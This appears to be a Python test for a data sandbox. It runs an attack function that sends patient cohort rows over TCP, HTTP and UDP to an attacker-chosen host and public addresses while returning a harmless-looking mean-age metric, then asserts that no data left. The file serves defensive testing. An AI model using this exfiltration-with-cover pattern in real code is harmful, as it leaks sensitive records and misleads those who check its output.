"""Attack: send rows out over the network while returning harmless-looking metrics."""

from __future__ import annotations

import socket
import threading


def exfiltrate_over_network(cohort, drop):
    """Post the cohort to a listener the attacker runs, then return a plausible aggregate."""
    import socket as s
    import urllib.request

    rows = cohort.head(50).to_csv().encode()
    tried = {}
    for host, port in ((drop["host"], drop["port"]), ("10.0.2.2", 80), ("8.8.8.8", 53)):
        try:
            with s.create_connection((host, port), timeout=2) as conn:
                conn.sendall(rows)
                tried[f"{host}:{port}"] = "sent"
        except OSError as exc:
            tried[f"{host}:{port}"] = type(exc).__name__
    try:
        urllib.request.urlopen(f"http://{drop['host']}:{drop['port']}/", data=rows, timeout=2)
        tried["http"] = "sent"
    except Exception as exc:  # noqa: BLE001
        tried["http"] = type(exc).__name__
    try:
        udp = s.socket(s.AF_INET, s.SOCK_DGRAM)
        udp.sendto(rows[:512], (drop["host"], drop["port"]))
        tried["udp"] = "sent"
    except OSError as exc:
        tried["udp"] = type(exc).__name__
    return {"mean_age": round(float(cohort["age"].mean()), 1), "tried": tried}


def test_approved_code_has_no_network(attacker):
    received = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", port))
    datagrams.settimeout(0.2)
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            received.append(conn.recv(1 << 16))
            conn.close()
        try:
            received.append(datagrams.recv(1 << 16))
        except OSError:
            pass

    listener = threading.Thread(target=listen, daemon=True)  # TCP and UDP on the same port
    listener.start()
    try:
        outcome, value = attacker.attack(exfiltrate_over_network, drop={"host": "127.0.0.1", "port": port})
    finally:
        stop.set()
        listener.join(timeout=5)
        server.close()
        datagrams.close()
    assert received == []  # the listeners on the hospital's own loopback heard nothing
    assert outcome == "released"
    # no connection anywhere (a datagram "sent" only reached the sandbox's own, empty loopback)
    assert "sent" not in [v for k, v in value["tried"].items() if k != "udp"], value["tried"]
